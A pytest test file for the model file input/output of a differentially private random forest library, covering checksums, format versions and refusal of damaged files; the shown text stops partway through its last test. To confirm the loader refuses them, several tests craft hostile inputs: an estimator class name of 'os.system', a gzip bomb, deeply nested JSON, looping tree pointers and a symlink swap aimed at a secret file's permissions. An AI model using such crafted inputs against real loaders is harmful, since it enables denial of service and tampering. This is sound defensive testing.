"""Model files: safe JSON round trip, and refusal of anything damaged, edited or incompatible."""

from __future__ import annotations

import gzip
import hashlib
import json
import os
import stat
import shutil
import warnings

import numpy as np
import pandas as pd
import pytest

import dpforest as d
from dpforest.io import (FORMAT_VERSION, InconsistentVersionWarning, ModelFileError, _canonical,
                         load_model, save_model)

from conftest import make_mixed


@pytest.fixture(scope="module")
def fitted():
    X, y, schema = make_mixed(800)
    models = [d.DiffPRFsClassifier(1.0, schema, n_estimators=6, max_depth=3, random_state=0,
                                   progress=False).fit(X, y),
              d.RFDPOOBClassifier(1.0, schema, n_estimators=6, max_depth=3, random_state=0,
                                  progress=False).fit(X, y)]
    return X, y, models


@pytest.mark.parametrize("suffix", ["model.json", "model.json.gz"])
@pytest.mark.parametrize("which", [0, 1])
def test_round_trip_identical_proba(tmp_path, fitted, suffix, which):
    X, y, models = fitted
    m = models[which]
    path = save_model(m, tmp_path / suffix)
    raw = path.read_bytes()
    assert (raw[:2] == b"\x1f\x8b") == suffix.endswith(".gz")
    m2 = load_model(path)
    assert type(m2) is type(m)
    np.testing.assert_array_equal(m2.predict_proba(X), m.predict_proba(X))
    assert list(m2.predict(X)) == list(m.predict(X))
    assert m2.get_params()["schema"] == m.schema
    assert m2.schema_ == m.schema_
    assert m2.ledger_.to_dict() == m.ledger_.to_dict()
    assert m2.ledger_.epsilon == pytest.approx(1.0)
    np.testing.assert_array_equal(m2.tree_weights_, m.tree_weights_)
    assert m2.classes_.tolist() == m.classes_.tolist()
    for k in vars(m):
        if k.endswith("_") and not k.startswith("_"):
            assert hasattr(m2, k), k


def test_file_is_plain_json_with_checksum(tmp_path, fitted):
    path = save_model(fitted[2][0], tmp_path / "m.json")
    doc = json.loads(path.read_text())
    assert doc["format"] == "dpforest-model" and doc["version"] == FORMAT_VERSION
    assert doc["payload"]["estimator"] == "DiffPRFsClassifier"
    assert doc["sha256"] == hashlib.sha256(_canonical(doc["payload"])).hexdigest()
    assert b"pickle" not in path.read_bytes()


def test_a_pickle_name_is_told_the_file_is_json(tmp_path, fitted):
    """save_model(m, 'm.pkl') wrote the JSON document silently under a name that promises a
    pickle (pickle.load of it fails far from here): it still writes it, and says so; a JSON
    name is quiet."""
    m = fitted[2][0]
    with pytest.warns(d.InputWarning, match=r"writes a JSON model file .*not a pickle.*"
                                            r"dpforest.load_model, or name it 'm.json'"):
        path = save_model(m, tmp_path / "m.pkl")
    assert load_model(path).ledger_.to_dict() == m.ledger_.to_dict()
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        save_model(m, tmp_path / "m.json.gz")
    # a name that promises a table (`dpforest fit -o model.csv` wrote JSON without a word)
    with pytest.warns(d.InputWarning, match=r"not a table, whatever the name: name it 'm.json'"):
        path = save_model(m, tmp_path / "m.csv")
    assert load_model(path).ledger_.to_dict() == m.ledger_.to_dict()
    with pytest.warns(d.InputWarning, match=r"not a table, whatever the name: name it 'm.json'"):
        save_model(m, tmp_path / "m.csv.gz")


def test_streamed_file_is_the_canonical_document_byte_for_byte(tmp_path, fitted):
    # the saver writes the payload piece by piece, a tree at a time: the bytes must be exactly
    # the canonical encoding of the whole document (what a one-shot json.dumps would give)
    for m in fitted[2]:
        path = save_model(m, tmp_path / "m.json")
        raw = path.read_bytes()
        doc = json.loads(raw)
        whole = _canonical({"format": doc["format"], "payload": doc["payload"], "sha256": doc["sha256"],
                            "version": doc["version"]})
        assert raw == whole
        gz = save_model(m, tmp_path / "m.json.gz")
        assert gzip.decompress(gz.read_bytes()) == raw


def _rewrite(path, fn, fix_checksum=False):
    doc = json.loads(path.read_text())
    fn(doc)
    if fix_checksum:
        doc["sha256"] = hashlib.sha256(_canonical(doc["payload"])).hexdigest()
    path.write_text(json.dumps(doc))


def test_refuses_tampered_payload(tmp_path, fitted):
    path = save_model(fitted[2][0], tmp_path / "m.json")

    def edit(doc):
        doc["payload"]["fitted"]["tree_weights_"]["__ndarray__"][0] = 1000.0
    _rewrite(path, edit)
    with pytest.raises(ModelFileError, match="sha256"):
        load_model(path)


def test_column_order_flag_must_be_true_when_present(tmp_path, fitted):
    """The only optional payload key: written as true or not at all; another value is refused
    even with a valid checksum, and the key's absence reads as a fit in the schema's order."""
    path = save_model(fitted[2][0], tmp_path / "m.json")
    assert "fitted_in_other_order" not in json.loads(path.read_text())["payload"]
    assert not getattr(load_model(path), "_fitted_in_other_order", False)
    _rewrite(path, lambda doc: doc["payload"].update(fitted_in_other_order="yes"), fix_checksum=True)
    with pytest.raises(ModelFileError, match="not a boolean"):
        load_model(path)


@pytest.mark.parametrize("edit", [
    lambda doc: doc.update(note="not covered by the checksum"),
    lambda doc: doc["payload"].update(privacy="re-hashed, read by nothing"),
], ids=["document", "payload"])
def test_refuses_keys_the_saver_does_not_write(tmp_path, fitted, edit):
    path = save_model(fitted[2][0], tmp_path / "m.json")
    assert load_model(path) is not None
    _rewrite(path, edit, fix_checksum=True)
    with pytest.raises(ModelFileError, match="keys a dpforest model file does not have"):
        load_model(path)


def test_checksum_is_checked_on_the_files_own_payload_bytes(tmp_path, fitted, monkeypatch):
    import dpforest.io as io_mod

    X, _, models = fitted
    path = save_model(models[0], tmp_path / "m.json")
    calls = []
    canonical = io_mod._canonical

    def spy(payload):
        calls.append(1)
        return canonical(payload)

    monkeypatch.setattr(io_mod, "_canonical", spy)
    # the saver's layout: the digest is taken on the file's bytes, nothing is re-encoded
    np.testing.assert_array_equal(load_model(path).predict_proba(X), models[0].predict_proba(X))
    assert calls == []
    # another layout (indented) of the same document: checked on the re-encoded payload
    path.write_text(json.dumps(json.loads(path.read_text()), indent=1))
    np.testing.assert_array_equal(load_model(path).predict_proba(X), models[0].predict_proba(X))
    assert calls == [1]
    # one byte of the payload changed in the saver's layout: neither digest matches
    raw = save_model(models[0], tmp_path / "m.json").read_bytes()
    assert raw.count(b'"epsilon_spent":1.0,') == 1
    path.write_bytes(raw.replace(b'"epsilon_spent":1.0,', b'"epsilon_spent":2.0,'))
    with pytest.raises(ModelFileError, match="sha256"):
        load_model(path)


def test_refuses_truncated_and_corrupted(tmp_path, fitted):
    path = save_model(fitted[2][0], tmp_path / "m.json")
    raw = path.read_bytes()
    path.write_bytes(raw[: len(raw) // 2])
    with pytest.raises(ModelFileError, match="not valid JSON"):
        load_model(path)
    gz = save_model(fitted[2][0], tmp_path / "m.json.gz")
    graw = gz.read_bytes()
    gz.write_bytes(graw[: len(graw) - 20])
    with pytest.raises(ModelFileError, match="gzip"):
        load_model(gz)
    path.write_bytes(b"\x80\x04\x95 not json at all")  # e.g. a pickle
    with pytest.raises(ModelFileError):
        load_model(path)
    path.write_text("[1, 2, 3]")
    with pytest.raises(ModelFileError, match="not a dpforest model"):
        load_model(path)


def test_refuses_wrong_version_and_unknown_class(tmp_path, fitted):
    path = save_model(fitted[2][0], tmp_path / "m.json")
    _rewrite(path, lambda doc: doc.__setitem__("version", FORMAT_VERSION + 1))
    with pytest.raises(ModelFileError, match="version") as e:
        load_model(path)
    assert "written by" not in str(e.value)     # same writer: nothing to add

    # a newer writer's file: the refusals say which version wrote it
    def newer(doc):
        doc["version"] = FORMAT_VERSION + 1
        doc["payload"]["dpforest_version"] = "999.0"
    path = save_model(fitted[2][0], tmp_path / "m.json")
    _rewrite(path, newer, True)
    with pytest.raises(ModelFileError, match="written by dpforest 999.0; this is dpforest"):
        load_model(path)
    path = save_model(fitted[2][0], tmp_path / "m.json")
    _rewrite(path, lambda doc: doc["payload"].update(dpforest_version="999.0", new_key=1), True)
    with pytest.raises(ModelFileError, match="another version .*written by dpforest 999.0"):
        load_model(path)

    path = save_model(fitted[2][0], tmp_path / "m.json")
    _rewrite(path, lambda doc: doc["payload"].__setitem__("estimator", "os.system"), True)
    with pytest.raises(ModelFileError, match="unknown estimator class"):
        load_model(path)

    path = save_model(fitted[2][0], tmp_path / "m.json")
    _rewrite(path, lambda doc: doc["payload"]["params"].__setitem__("bogus", 1), True)
    with pytest.raises(ModelFileError, match="no parameters"):
        load_model(path)

    path = save_model(fitted[2][0], tmp_path / "m.json")
    _rewrite(path, lambda doc: doc["payload"]["fitted"].pop("trees_"), True)
    with pytest.raises(ModelFileError, match="malformed"):
        load_model(path)


def test_refuses_unfitted_and_foreign(tmp_path):
    from sklearn.ensemble import RandomForestClassifier

    with pytest.raises(ValueError, match="not fitted"):
        save_model(d.DiffPRFsClassifier(1.0, make_mixed(50)[2]), tmp_path / "x.json")
    with pytest.raises(TypeError, match="dpforest estimators"):
        save_model(RandomForestClassifier(), tmp_path / "x.json")
    assert not list(tmp_path.iterdir())


@pytest.mark.parametrize("algo", ["default", "diffprfs", "rfdp-oob", "oob-budget", "dprf", "snr",
                                  "private-rdt", "crfsdp"])
def test_every_estimator_round_trips(tmp_path, algo):
    from dpforest.experiments.registry import get_class, make_estimator

    if get_class(algo) is None:
        pytest.skip(f"{algo} not available yet")
    X, y, schema = make_mixed(1200)
    m = make_estimator(algo, 1.0, schema, n_estimators=5, max_depth=3, random_state=0,
                       progress=False).fit(X, y)
    m2 = load_model(save_model(m, tmp_path / "m.json.gz"))
    assert type(m2) is type(m)
    np.testing.assert_array_equal(m2.predict_proba(X), m.predict_proba(X))
    assert m2.ledger_.epsilon == pytest.approx(m.ledger_.epsilon)


# ----------------------------------------------------------------------------- damage, at scale
@pytest.mark.parametrize("suffix", ["model.json", "model.json.gz"])
def test_random_corruptions_are_model_file_errors(tmp_path, fitted, suffix):
    """200 random byte flips / truncations (fixed seed): each is refused with ModelFileError or,
    when the damage hit bytes gzip ignores, loads the identical model -- never another error."""
    X, y, models = fitted
    m = models[0]
    raw = save_model(m, tmp_path / suffix).read_bytes()
    want = m.predict_proba(X.iloc[:50])
    rng = np.random.default_rng(12345)
    refused = 0
    for i in range(200):
        b = bytearray(raw)
        if i % 4 == 0:
            b = b[:int(rng.integers(0, len(b)))]
        else:
            b[int(rng.integers(0, len(b)))] ^= int(rng.integers(1, 256))
        p = tmp_path / f"bad{suffix}"
        p.write_bytes(bytes(b))
        try:
            m2 = load_model(p)
        except ModelFileError:
            refused += 1
            continue
        np.testing.assert_array_equal(m2.predict_proba(X.iloc[:50]), want)
    assert refused >= 190


def test_gzip_stream_damage_is_model_file_error(tmp_path, fitted):
    X, y, models = fitted
    raw = bytearray(save_model(models[0], tmp_path / "m.json.gz").read_bytes())
    raw[len(raw) // 2] ^= 0xFF  # inside the deflate stream: zlib.error before the fix
    (tmp_path / "z.json.gz").write_bytes(bytes(raw))
    with pytest.raises(ModelFileError, match="gzip"):
        load_model(tmp_path / "z.json.gz")


def test_deeply_nested_and_bomb_are_refused(tmp_path):
    deep = "[" * 100_000 + "]" * 100_000
    (tmp_path / "deep.json").write_text(deep)
    with pytest.raises(ModelFileError, match="nested"):
        load_model(tmp_path / "deep.json")
    # 50 MB of spaces compress to ~50 kB: refused as soon as the cap is reached
    (tmp_path / "bomb.json.gz").write_bytes(gzip.compress(b" " * 50_000_000))
    with pytest.raises(ModelFileError, match="max_bytes"):
        load_model(tmp_path / "bomb.json.gz", max_bytes=1_000_000)
    (tmp_path / "big.json").write_bytes(b" " * 2_000_000)
    with pytest.raises(ModelFileError, match="max_bytes"):
        load_model(tmp_path / "big.json", max_bytes=1_000_000)


def test_tampered_tree_with_recomputed_checksum_is_refused(tmp_path, fitted):
    X, y, models = fitted
    doc = json.loads(save_model(models[0], tmp_path / "m.json").read_text())
    # an internal node's child pointer (a tree's root can be a leaf: DiffPRFs' noisy stopping
    # rule, so pick a tree and node that split)
    trees = [t["__flattree__"] for t in doc["payload"]["fitted"]["trees_"]]
    tree = next(t for t in trees if any(f >= 0 for f in t["feature"]))
    node = next(i for i, f in enumerate(tree["feature"]) if f >= 0)
    tree["child_start"][node] = 10 ** 6  # points outside the tree
    doc["sha256"] = hashlib.sha256(_canonical(doc["payload"])).hexdigest()
    (tmp_path / "t.json").write_text(json.dumps(doc))
    with pytest.raises(ModelFileError, match="inconsistent"):
        load_model(tmp_path / "t.json")


@pytest.mark.parametrize("which", [0, 1])
def test_a_class_or_column_edited_in_one_schema_copy_is_refused(tmp_path, fitted, which):
    """The file holds the class list in the fitted schema_ and in the schema parameter; the
    leaves are read in schema_'s order, so reversing it alone (checksum recomputed) loaded and
    named the other class for nearly every record.  Refused; the untouched file still loads."""
    X, y, models = fitted
    path = save_model(models[which], tmp_path / "m.json")
    doc = json.loads(path.read_text())
    copies = [doc["payload"]["schema"], doc["payload"]["params"]["schema"]["__schema__"]]
    assert copies[0]["classes"] == copies[1]["classes"]
    load_model(path)
    for k, copy in enumerate(copies):
        edited = json.loads(json.dumps(doc))
        target = [edited["payload"]["schema"],
                  edited["payload"]["params"]["schema"]["__schema__"]][k]
        target["classes"] = list(reversed(copy["classes"]))
        edited["sha256"] = hashlib.sha256(_canonical(edited["payload"])).hexdigest()
        (tmp_path / f"e{k}.json").write_text(json.dumps(edited))
        with pytest.raises(ModelFileError, match="two copies of the class list"):
            load_model(tmp_path / f"e{k}.json")
    # each column's public description too: a category order (it fixes the codes) or a bound
    # edited in one copy
    for k in range(2):
        for kind in ("categorical", "numeric"):
            edited = json.loads(json.dumps(doc))
            target = [edited["payload"]["schema"],
                      edited["payload"]["params"]["schema"]["__schema__"]][k]
            f = next(f for f in target["features"] if f["type"] == kind)
            if kind == "categorical":
                f["categories"] = list(reversed(f["categories"]))
            else:
                f["upper"] = f["upper"] * 2 + 1
            edited["sha256"] = hashlib.sha256(_canonical(edited["payload"])).hexdigest()
            (tmp_path / "f.json").write_text(json.dumps(edited))
            with pytest.raises(ModelFileError, match=f"two copies of the column '{f['name']}'"):
                load_model(tmp_path / "f.json")
    # and what predict does beyond the bounds (refuse or clip), which `dpforest show` read from
    # the parameters' copy and predict from schema_: a clipping schema_ predicted for a value
    # a million times the bound while show described the refusing one; a column's integer
    # flag alike
    for k in range(2):
        for edit in ("out_of_bounds", "integer"):
            edited = json.loads(json.dumps(doc))
            target = [edited["payload"]["schema"],
                      edited["payload"]["params"]["schema"]["__schema__"]][k]
            if edit == "out_of_bounds":
                target["out_of_bounds"] = "clip" if target.get("out_of_bounds") != "clip" else "error"
                said = "disagree in out_of_bounds"
            else:
                f = next(f for f in target["features"] if f["type"] == "numeric")
                f["integer"] = not f.get("integer", False)
                said = f"two copies of the column '{f['name']}'"
            edited["sha256"] = hashlib.sha256(_canonical(edited["payload"])).hexdigest()
            (tmp_path / "g.json").write_text(json.dumps(edited))
            with pytest.raises(ModelFileError, match=said):
                load_model(tmp_path / "g.json")


def test_a_route_leading_back_up_the_tree_is_refused(tmp_path, fitted):
    """A route slot whose child is the node itself or an ancestor (child_start + slot <= node,
    inside the tree) would loop predict's compiled walk for ever, deaf to Ctrl-C: refused."""
    X, y, models = fitted
    doc = json.loads(save_model(models[0], tmp_path / "m.json").read_text())
    trees = [t["__flattree__"] for t in doc["payload"]["fitted"]["trees_"]]
    tree = next(t for t in trees if sum(f >= 0 for f in t["feature"]) >= 2)
    node = [i for i, f in enumerate(tree["feature"]) if f >= 0][1]       # not the root
    # every slot of the node's (new) row sends the record back to the node itself
    tree["route"].append([node - tree["child_start"][node]] * tree["route_width"])
    tree["route_of"][node] = len(tree["route"]) - 1
    doc["sha256"] = hashlib.sha256(_canonical(doc["payload"])).hexdigest()
    (tmp_path / "loop.json").write_text(json.dumps(doc))
    with pytest.raises(ModelFileError, match="inconsistent"):
        load_model(tmp_path / "loop.json")


def test_nesting_depth_is_the_same_scanned_in_chunks(monkeypatch):
    # the loader's bracket-depth check scans long texts in chunks; a chunk border must not
    # change the answer (brackets inside strings are not structure)
    import json

    import dpforest.io as io

    rng = np.random.default_rng(0)

    def nested(depth):
        v = "x[{" * int(rng.integers(0, 3))
        for _ in range(depth):
            v = [v, {"k": v}] if rng.random() < 0.5 else {"a]": [v]}
        return v
    texts = [json.dumps(nested(k)) for k in (0, 1, 3, 7, 12)]
    whole = [io._nesting_depth(t) for t in texts]
    assert whole[0] == 0 and whole[-1] >= 12
    for chunk in (1, 2, 7, 64):
        monkeypatch.setattr(io, "_NESTING_CHUNK", chunk)
        assert [io._nesting_depth(t) for t in texts] == whole


def test_an_open_string_or_a_huge_packed_shape_is_refused_without_quadratic_work(monkeypatch):
    """Two crafted model texts took minutes to refuse: an open string of escaped quotes made
    the depth scan's string pattern fail and start again after each one, scanning to the end
    every time (160 KB: 73 s); a packed array's shape of many thousand-digit numbers made the
    product itself slow.  An open string now runs to the end in one match (what follows it is
    inside it, as a parser would read it), and a shape is checked side by side against the
    bytes, with at most two sides, before anything is multiplied."""
    import dpforest.io as io
    from dpforest.tree.model import pack_array, unpack_array

    assert io._nesting_depth('{"' + '\\"' * 10 + "[[[") == 1
    # an escaped line break: '.' did not take it, so the match failed and restarted as before
    assert io._nesting_depth('{"' + '\\"' * 10 + "\\\n[[[") == 1
    calls = []
    real_sub = io.re.sub

    def counted(pattern, repl, string, *args, **kwargs):
        # the pattern tried from every position it could start at, as the search does
        calls.append(sum(1 for i in range(len(string))
                         if string[i] == '"' and io.re.match(pattern, string[i:]) is None))
        return real_sub(pattern, repl, string, *args, **kwargs)
    monkeypatch.setattr(io.re, "sub", counted)
    io._nesting_depth('{"' + '\\"' * 200 + "\\\n")
    assert calls == [0]             # from every quote it starts at, one match to the end
    assert io._nesting_depth('{"a": "b\\') == 1
    assert io._nesting_depth('[{"k": "]\\"["}, [1]]') == 2      # closed strings as before
    packed = pack_array(np.arange(6.0).reshape(2, 3))
    assert np.array_equal(unpack_array(packed, float), np.arange(6.0).reshape(2, 3))
    with pytest.raises(ValueError, match="malformed packed array"):
        unpack_array({**packed, "shape": [1, 2, 3]}, float)
    with pytest.raises(ValueError, match="does not match its shape"):
        unpack_array({**packed, "shape": [10 ** 4000, 0]}, float)


def _wide_column_forest(seed):
    """Private-RDT trees (one route row per feature) on a schema with a 300-level column."""
    rng = np.random.default_rng(seed)
    levels = [f"z{i}" for i in range(300)]
    X = pd.DataFrame({"zip": rng.choice(levels, 400), **{f"x{j}": rng.uniform(0, 1, 400) for j in range(4)}})
    schema = d.Schema.from_dataframe(X, classes=[0, 1], categories={"zip": levels},
                                     bounds={f"x{j}": (0, 1) for j in range(4)})
    m = d.PrivateRDTClassifier(epsilon=1.0, schema=schema, n_estimators=5, random_state=0,
                               progress=False).fit(X, (X["x0"] > 0.5).astype(int))
    return X, schema, m


def test_packed_forest_walks_distinct_rows_as_it_walks_per_node_rows(monkeypatch):
    # many trees or nodes on a wide schema pack their distinct route rows with an index per
    # node instead of one row per node: the same leaves, the same probabilities
    from dpforest.tree import model as tm

    X, schema, m = _wide_column_forest(1)
    assert all(len(t.route_rows) <= 6 < t.n_nodes for t in m.trees_)   # one row per feature
    dense = m.predict_proba(X)
    monkeypatch.setattr(tm, "PACKED_DENSE_CELLS", 0)
    np.testing.assert_array_equal(m.predict_proba(X), dense)


def test_route_rows_are_written_compact_and_full_rows_still_load(tmp_path):
    # a forest of many nodes on a schema with one wide categorical column: each route row is as
    # wide as that column, though most nodes split on narrow ones
    X, schema, m = _wide_column_forest(0)
    path = save_model(m, tmp_path / "m.json")
    back = load_model(path)
    for a, b in zip(m.trees_, back.trees_):
        np.testing.assert_array_equal(a.dense_route(), b.dense_route())
    np.testing.assert_array_equal(back.predict_proba(X), m.predict_proba(X))
    doc = json.loads(path.read_text())
    trees = [v["__flattree__"] for v in doc["payload"]["fitted"]["trees_"]]
    width = m.trees_[0].route_rows.shape[1]
    assert all(t["route_width"] == width for t in trees)
    # each distinct row once (one per feature in a random tree), cut after its last non-zero entry
    assert all(len(t["route"]) <= len(schema.features) + 1 < len(t["feature"]) for t in trees)
    assert sum(len(r) for t in trees for r in t["route"]) < 0.05 * sum(len(t["feature"]) * width for t in trees)

    # a file written before distinct rows and compact rows (one full row per node, no
    # route_of, no route_width) loads the same
    def full_rows(doc):
        for t, tree in zip(doc["payload"]["fitted"]["trees_"], m.trees_):
            t["__flattree__"]["route"] = tree.dense_route().tolist()
            del t["__flattree__"]["route_width"], t["__flattree__"]["route_of"]
    _rewrite(path, full_rows, fix_checksum=True)
    np.testing.assert_array_equal(load_model(path).predict_proba(X), m.predict_proba(X))

    # a short file may not claim a huge table
    def huge(doc):
        doc["payload"]["fitted"]["trees_"][0]["__flattree__"].update(route_width=1 << 40)
    _rewrite(path, huge, fix_checksum=True)
    with pytest.raises(ModelFileError):
        load_model(path)

    # nor a table narrower than a feature's codes (predict would read past the rows)
    def narrow(doc):
        for t in doc["payload"]["fitted"]["trees_"]:
            t["__flattree__"].update(route_width=2, route=[r[:2] for r in t["__flattree__"]["route"]])
    _rewrite(path, narrow, fix_checksum=True)
    with pytest.raises(ModelFileError, match="inconsistent"):
        load_model(path)


def test_large_trees_are_packed_and_version_1_files_still_load(tmp_path, monkeypatch):
    # a tree past PACK_NODES writes its per-node arrays as base64 of their bytes (a list number
    # costs a Python object to load); they read back bit for bit, and a packed field whose bytes
    # do not match its shape is refused
    from dpforest.tree import model as tm

    X, schema, m = _wide_column_forest(2)
    monkeypatch.setattr(tm, "PACK_NODES", 10)
    path = save_model(m, tmp_path / "m.json")
    doc = json.loads(path.read_text())
    tree = doc["payload"]["fitted"]["trees_"][0]["__flattree__"]
    assert doc["version"] == 2 and set(tree["counts"]) == {"__packed__", "dtype", "shape"}
    np.testing.assert_array_equal(load_model(path).predict_proba(X), m.predict_proba(X))

    def as_version_1(doc):  # lists and one route row per node, as version 1 wrote them
        doc["version"] = 1
        for t, tr in zip(doc["payload"]["fitted"]["trees_"], m.trees_):
            f = t["__flattree__"]
            for k in ("feature", "child_start", "counts", "depth", "epsilon"):
                f[k] = getattr(tr, k).tolist()
            f["route"] = tr.dense_route().tolist()
            del f["route_of"], f["route_width"]
    _rewrite(path, as_version_1, fix_checksum=True)
    np.testing.assert_array_equal(load_model(path).predict_proba(X), m.predict_proba(X))

    path = save_model(m, tmp_path / "m2.json")

    def short(doc):
        f = doc["payload"]["fitted"]["trees_"][0]["__flattree__"]
        f["counts"]["shape"][0] += 1
    _rewrite(path, short, fix_checksum=True)
    with pytest.raises(ModelFileError):
        load_model(path)


def test_apply_refuses_codes_past_the_route_rows():
    # the compiled walk checks each code it reads: codes of another (finer) schema are refused
    # instead of read past the rows (the audit once passed a stale schema's codes)
    from dpforest.tree.model import FlatTree

    t = FlatTree(np.array([0, -1, -1]), np.array([[0, 1], [0, 0], [0, 0]], dtype=np.int16),
                 np.array([1, -1, -1]), np.zeros((3, 2)), np.array([0, 1, 1]), np.zeros(3))
    np.testing.assert_array_equal(t.apply(np.array([[0], [1]])), [1, 2])
    with pytest.raises(ValueError, match="route rows"):
        t.apply(np.array([[0], [2]]))


# ----------------------------------------------------------------------------- file system
@pytest.mark.skipif(os.name != "posix", reason="POSIX permission bits")
@pytest.mark.parametrize("suffix", ["m.json", "m.json.gz"])
def test_new_model_file_gets_the_mode_open_gives(tmp_path, fitted, suffix):
    # mkstemp made every model file 0600, unreadable by a server running as another user;
    # a new file gets 0666 less the umask, as open(path, "w") (the predictions CSV) does
    old = os.umask(0o022)
    try:
        path = save_model(fitted[2][0], tmp_path / suffix)
        with open(tmp_path / "plain.txt", "w") as fh:
            fh.write("x")
        assert stat.S_IMODE(path.stat().st_mode) == 0o644
        assert stat.S_IMODE((tmp_path / "plain.txt").stat().st_mode) == 0o644
        os.umask(0o077)
        assert stat.S_IMODE(save_model(fitted[2][0], tmp_path / f"b{suffix}").stat().st_mode) == 0o600
    finally:
        os.umask(old)
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted([suffix, f"b{suffix}", "plain.txt"])


@pytest.mark.skipif(os.name != "posix", reason="POSIX permission bits")
def test_overwritten_model_file_keeps_its_mode(tmp_path, fitted):
    # overwriting keeps the file's permission bits, as open(path, "w") does, whatever the umask
    X, _, models = fitted
    old = os.umask(0o022)
    try:
        for mode in (0o600, 0o664, 0o640):
            path = tmp_path / "m.json"
            path.write_text("an older file")
            os.chmod(path, mode)
            save_model(models[0], path)
            assert stat.S_IMODE(path.stat().st_mode) == mode
            np.testing.assert_array_equal(load_model(path).predict_proba(X), models[0].predict_proba(X))
    finally:
        os.umask(old)
    assert [p.name for p in tmp_path.iterdir()] == ["m.json"]


def test_files_are_written_where_the_system_has_no_fchmod(tmp_path, fitted, monkeypatch):
    # Windows before Python 3.13 has no os.fchmod: a budget's writes and a model file's
    # overwrite set the mode by name there (they failed with AttributeError)
    _, _, models = fitted
    monkeypatch.delattr(os, "fchmod", raising=False)
    budget = d.PrivacyBudget(1.0, path=str(tmp_path / "b.json"))
    budget.spend(0.5, "a count")
    path = tmp_path / "m.json"
    path.write_text("an older file")
    save_model(models[0], path)
    assert load_model(path) is not None and d.PrivacyBudget.open(str(tmp_path / "b.json")).spent == 0.5


@pytest.mark.skipif(os.name != "posix", reason="POSIX permission bits")
def test_a_link_swapped_for_the_temporary_file_keeps_its_targets_mode(tmp_path, fitted,
                                                                      monkeypatch):
    # the kept mode was set by name once the temporary file was written: in a folder others
    # may write, a link swapped in meanwhile had its target's permissions changed; they are
    # set through the descriptor now, before anything is written
    import dpforest.io as io

    _, _, models = fitted
    secret = tmp_path / "key"
    secret.write_text("k")
    os.chmod(secret, 0o600)
    path = tmp_path / "m.json"
    path.write_text("an older file")
    os.chmod(path, 0o664)
    write = io._write_document

    def swapped(payload, fh, gz):
        write(payload, fh, gz)
        for p in tmp_path.iterdir():
            if p.name.startswith(".m.json") and not p.is_symlink():
                p.unlink()
                p.symlink_to(secret)
    monkeypatch.setattr(io, "_write_document", swapped)
    save_model(models[0], path)
    assert stat.S_IMODE(secret.stat().st_mode) == 0o600


def test_saving_into_a_missing_folder_names_the_target(tmp_path, fitted):
    # the error named the hidden temporary file (".m.json.fpynegsi"), not the path asked for
    target = tmp_path / "no such folder" / "m.json"
    with pytest.raises(FileNotFoundError) as info:
        save_model(fitted[2][0], target)
    msg = str(info.value)
    assert str(target) in msg and repr(str(target.parent)) in msg and "does not exist" in msg
    assert ".m.json." not in msg
    assert info.value.filename == str(target)
    # a file where the folder should be
    (tmp_path / "afile").write_text("x")
    with pytest.raises(NotADirectoryError) as info:
        save_model(fitted[2][0], tmp_path / "afile" / "m.json")
    assert "afile" in str(info.value) and ".m.json." not in str(info.value)
    # a folder where the file should be
    (tmp_path / "no such folder").mkdir()
    with pytest.raises(IsADirectoryError, match="no such folder"):
        save_model(fitted[2][0], tmp_path / "no such folder")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["afile", "no such folder"]
    assert not list((tmp_path / "no such folder").iterdir())


def _as_written_by(path, version):
    """The model file at ``path`` (plain or gzip) re-written as ``version``'s, checksum fixed."""
    gz = str(path).endswith(".gz")
    doc = json.loads(gzip.decompress(path.read_bytes()) if gz else path.read_bytes())
    doc["payload"]["dpforest_version"] = version
    doc["sha256"] = hashlib.sha256(_canonical(doc["payload"])).hexdigest()
    raw = json.dumps(doc).encode()
    path.write_bytes(gzip.compress(raw) if gz else raw)


def test_file_of_another_dpforest_version_warns(tmp_path, fitted):
    X, _, models = fitted
    for suffix in ("m.json", "m.json.gz"):
        path = save_model(models[0], tmp_path / suffix)
        # the same version: silent
        with warnings.catch_warnings():
            warnings.simplefilter("error")
            load_model(path)
        assert load_model(path)._written_by == d.__version__     # the file records its writer
        _as_written_by(path, "0.0.1")
        with pytest.warns(InconsistentVersionWarning) as rec:
            m2 = load_model(path)
        assert len(rec) == 1
        w = rec[0].message
        assert issubclass(rec[0].category, UserWarning)
        assert "0.0.1" in str(w) and d.__version__ in str(w) and str(path) in str(w)
        assert (w.original_version, w.current_version) == ("0.0.1", d.__version__)
        assert rec[0].filename == __file__       # points at the caller of load_model
        assert "refit it with dpforest" in str(w)
        np.testing.assert_array_equal(m2.predict_proba(X), models[0].predict_proba(X))
    # a release the CHANGELOG records as predicting alike: said so, and no refit urged (a
    # walkthrough's files of the release before were told to spend budget again)
    _as_written_by(path, "0.6.7")
    with pytest.warns(InconsistentVersionWarning) as rec:
        m3 = load_model(path)
    text = str(rec[0].message)
    assert "It loaded and predicts as it did" in text and "need not be refitted" in text
    assert "refit it with" not in text and "may predict differently" not in text
    np.testing.assert_array_equal(m3.predict_proba(X), models[0].predict_proba(X))
    # versions no release has: 5,000 digits (beyond what Python converts) and non-ASCII digits
    # load with the general warning, never "need not be refitted", never a raw ValueError
    for odd in ("9" * 5000, "\u0660.\u0666.\u0667"):
        _as_written_by(path, odd)
        with pytest.warns(InconsistentVersionWarning) as rec:
            load_model(path)
        assert "may predict differently" in str(rec[0].message)


def test_a_pickle_given_to_load_model_is_named_as_one(tmp_path, fitted):
    """joblib.dump / pickle.dump files are not model files: load_model says which loader
    reads them (and the trust a pickle needs), instead of asking whether it is a data file."""
    import pickle

    import joblib

    m = fitted[2][0]
    joblib.dump(m, tmp_path / "m.joblib")
    (tmp_path / "m.pkl").write_bytes(pickle.dumps(m))
    for name in ("m.joblib", "m.pkl"):
        with pytest.raises(ModelFileError, match=r"is named as a pickle, not a dpforest model "
                                                 r"file: load it with joblib\.load or "
                                                 r"pickle\.load"):
            load_model(tmp_path / name)
    # told by the name, never by the bytes: a data file whose first byte is pickle's mark
    # (cp1252's euro sign) gets the one message every data file gets
    for data in (b"a,b\n1,2\n", "\u20acuro,1\n".encode("cp1252"), pickle.dumps(m)):
        (tmp_path / "d.csv").write_bytes(data)
        with pytest.raises(ModelFileError, match=r"not a JSON object; is it empty, a data file, or a pickle"):
            load_model(tmp_path / "d.csv")


def test_the_fitting_version_survives_saving_again(tmp_path, fitted):
    """fitted_with_version_ is the version that fitted the trees: a model file or pickle
    written again (by another version) keeps it, and the statement names both versions."""
    import pickle

    from dpforest.statement import release_statement, statement_markdown

    m = fitted[2][0]
    assert m.fitted_with_version_ == d.__version__
    path = save_model(m, tmp_path / "m.json")

